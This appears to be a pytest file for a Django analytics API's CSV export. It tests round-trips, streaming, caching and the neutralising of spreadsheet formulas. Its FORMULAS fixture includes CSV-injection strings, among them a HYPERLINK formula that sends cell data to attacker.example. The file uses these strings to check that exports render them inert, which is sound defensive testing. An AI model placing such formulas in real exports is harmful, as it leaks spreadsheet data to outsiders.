"""CSV answers: the JSON answer's rows, a header line first, formulas neutralised, streamed."""

import csv
import io
import pickle
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.core.cache import caches
from rest_framework.test import APIClient

from api.caching import answer_key
from api.exports import CHUNK_BYTES, CHUNK_ROWS, csv_chunks
from api.spec import TOP, spec_parse
from api.tests.conftest import ENDPOINTS, analytics_data
from core.models import Blog
from ingest.services import views_record

# User-written texts a spreadsheet would run as formulas (OWASP, "CSV Injection").
FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")',
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\tcmd",
    "\r=1",
]


@pytest.fixture
def public(db, settings, frozen_today) -> APIClient:
    settings.ANALYTICS_PUBLIC_READ = True
    return APIClient()


def _body(response: Any) -> str:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return content.decode()


def parsed(text: str) -> list[dict[str, Any]]:
    """CSV back to JSON rows: unquoted cells are numbers, ``""`` is null, and the ``'`` comes
    off what it neutralised."""
    reader = csv.reader(io.StringIO(text, newline=""), quoting=csv.QUOTE_NONNUMERIC)
    header = next(reader)
    rows = []
    for line in reader:
        row: dict[str, Any] = {}
        for name, value in zip(header, line, strict=True):
            if isinstance(value, float):
                row[name] = value
            elif value == "":
                row[name] = None
            elif value.startswith("'") and value[1:2] in ("=", "+", "-", "@", "\t", "\r"):
                row[name] = value[1:]
            else:
                row[name] = value
        rows.append(row)
    return rows


def _formula_data() -> None:
    authors = [
        get_user_model().objects.create_user(username=f"{n}{text}"[:150])
        for n, text in (
            ("", "@evil"),
            ("", "-dash"),
            ("", "plain"),
        )
    ]
    day = datetime(2025, 3, 3, 12, tzinfo=UTC)
    blogs = [
        Blog.objects.create(title=title, author=authors[n % 3], created_at=day)
        for n, title in enumerate([*FORMULAS, 'Comma, "quoted" and\nnewline'])
    ]
    views_record(
        views=[
            (blog.pk, country, day - timedelta(days=days))
            for n, blog in enumerate(blogs)
            for days in (0, 366)
            for country in ("US", "DE")[: 1 + n % 2]
            for _ in range(n + 1)
        ]
    )


@pytest.mark.parametrize("url", ENDPOINTS)
@pytest.mark.parametrize("compare", [None, "previous_year"])
def test_csv_round_trips_to_the_json_answer(public, url, compare):
    _formula_data()
    body: dict[str, Any] = {"year": 2025}
    if compare:
        body["compare"] = compare
    expected = public.post(url, body, format="json").json()["results"]
    assert expected
    posted = public.post(url, body, format="json", HTTP_ACCEPT="text/csv")
    query = "&".join(f"{k}={v}" for k, v in body.items())
    got = public.get(f"{url}?{query}&format=csv")
    for response in (posted, got):
        assert response.status_code == 200
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        name = url.removeprefix("/api/analytics/").rstrip("/").replace("/", "-")
        suffix = "-vs-previous-year" if compare else ""
        assert response["Content-Disposition"] == f'attachment; filename="{name}-2025{suffix}.csv"'
        text = _body(response)
        assert text.splitlines()[0].split(",") == [f'"{key}"' for key in expected[0]]
        assert parsed(text) == expected


def test_formulas_come_out_inert(public):
    _formula_data()
    text = _body(public.get("/api/analytics/top/blog/?year=2025&format=csv"))
    cells = [cell for line in csv.reader(io.StringIO(text, newline="")) for cell in line]
    titles = [cell for cell in cells if cell.lstrip("'") in FORMULAS]
    assert sorted(titles) == sorted("'" + formula for formula in FORMULAS)
    assert '"\'=HYPERLINK(""http://attacker.example/?leak=""&A1,""Click me"")"' in text
    # No cell a spreadsheet reads starts a formula; numbers are not quoted.
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    users = _body(public.get("/api/analytics/top/user/?year=2025&format=csv"))
    assert '"\'@evil"' in users and '"\'-dash"' in users and '"plain"' in users


def test_negative_numbers_stay_numbers():
    text = b"".join(
        csv_chunks(["name", "change_pct", "none"], [{"name": "-x", "change_pct": -12.5}])
    )
    assert text.decode() == '"name","change_pct","none"\r\n"\'-x",-12.5,""\r\n'


def test_an_empty_answer_has_its_header_line(public, db):
    response = public.get("/api/analytics/blog-views/user/?year=2025&format=csv")
    assert _body(response) == '"username","blogs","views"\r\n'
    series = public.get("/api/analytics/performance/?year=2025&compare=previous_year&format=csv")
    assert _body(series).splitlines()[0].endswith('"growth_pct","previous_views","change_pct"')


def test_errors_stay_json(public, db):
    for response in (
        public.get("/api/analytics/top/blog/?year=1&format=csv"),
        public.post("/api/analytics/top/blog/", {"year": 1}, format="json", HTTP_ACCEPT="text/csv"),
    ):
        assert response.status_code == 400
        assert response["Content-Type"] == "application/json"
        assert response.json()["error"]["details"][0]["field"] == "year"
    refused = public.get("/api/analytics/top/blog/", HTTP_ACCEPT="text/html")
    assert refused.status_code == 406 and refused["Content-Type"] == "application/json"


def test_a_large_breakdown_streams(public, db, settings):
    """1,200 authors: a CSV larger than the cache takes comes in chunks of CHUNK_ROWS rows, as
    it is written; one the cache keeps, as the same bytes in chunks of CHUNK_BYTES."""
    users = get_user_model().objects.bulk_create(
        get_user_model()(username=f"author{n:04d}") for n in range(1200)
    )
    day = datetime(2025, 5, 5, tzinfo=UTC)
    blogs = Blog.objects.bulk_create(
        Blog(title=f"b{n}", author=user, created_at=day) for n, user in enumerate(users)
    )
    views_record(views=[(blog.pk, "US", day) for blog in blogs])
    url = "/api/analytics/blog-views/user/?limit=1000&format=csv"
    settings.ANALYTICS_CACHE_SECONDS = 60
    settings.ANALYTICS_CACHE_MAX_BYTES = 10_000
    response = public.get(url)
    assert response.streaming
    chunks = list(response.streaming_content)
    assert len(chunks) == 1000 // CHUNK_ROWS + 1
    rows = parsed(b"".join(chunks).decode())
    assert rows == public.get("/api/analytics/blog-views/user/?limit=1000").json()["results"]
    assert len(rows) == 1000
    settings.ANALYTICS_CACHE_MAX_BYTES = 1024 * 1024
    computed = public.get(url, HTTP_CACHE_CONTROL="no-cache")
    kept = public.get(url)
    assert kept.streaming
    assert b"".join(computed.streaming_content) == b"".join(kept.streaming_content)
    assert len(b"".join(chunks)) < CHUNK_BYTES


@pytest.mark.parametrize("method", ["GET", "POST"])
def test_a_cached_answer_keeps_its_csv_and_its_etag(public, db, settings, method):
    """The CSV and the ETag digest are stored with the answer by the request that computes
    it, and a hit sends them as they were computed; an answer whose CSV would take the entry
    past ANALYTICS_CACHE_MAX_BYTES is stored without it."""
    settings.ANALYTICS_CACHE_SECONDS = 60
    _formula_data()
    spec = spec_parse(payload={"year": 2025}, extras=TOP)
    key = answer_key(endpoint="top/blog", spec=spec)
    url = "/api/analytics/top/blog/?year=2025"
    csv_url = f"{url}&format=csv"
    post_csv = "/api/analytics/top/blog/?format=csv"
    if method == "GET":
        computed = public.get(csv_url)
    else:
        computed = public.post(post_csv, {"year": 2025}, format="json")
    text = _body(computed)
    entry = caches["default"].get(key)
    assert entry["csv"].decode() == text
    assert ("digest" in entry) is (method == "GET")
    kept = public.get(csv_url)
    assert _body(kept) == text
    assert kept["ETag"] == public.get(csv_url, HTTP_CACHE_CONTROL="no-cache")["ETag"]
    assert public.get(url)["ETag"] != kept["ETag"]
    assert parsed(text) == public.get(url).json()["results"]
    # JSON and CSV together over the limit, the JSON alone under it: the JSON is kept.
    caches["default"].delete(key)
    json_only = len(pickle.dumps({"version": entry["version"], "json": entry["json"]}))
    settings.ANALYTICS_CACHE_MAX_BYTES = json_only + len(entry["csv"]) // 2
    assert _body(public.post(post_csv, {"year": 2025}, format="json")) == text
    entry = caches["default"].get(key)
    assert "csv" not in entry and entry["json"]
    assert _body(public.get(csv_url)) == text
    # Just under the size of both as pickled (a byte more than their lengths): the same.
    caches["default"].delete(key)
    settings.ANALYTICS_CACHE_MAX_BYTES = json_only + len(text.encode()) + 1
    assert _body(public.post(post_csv, {"year": 2025}, format="json")) == text
    entry = caches["default"].get(key)
    assert "csv" not in entry and entry["json"]


def test_realistic_answers_round_trip(public, db):
    analytics_data(seed=3, views=400)
    for url in ENDPOINTS:
        for query in ("start_date=2024-02-10&compare=previous_period", "compare_period=year"):
            if "compare_period" in query and "performance" not in url:
                continue
            expected = public.get(f"{url}?{query}").json()
            text = _body(public.get(f"{url}?{query}&format=csv"))
            assert parsed(text) == expected["results"], url
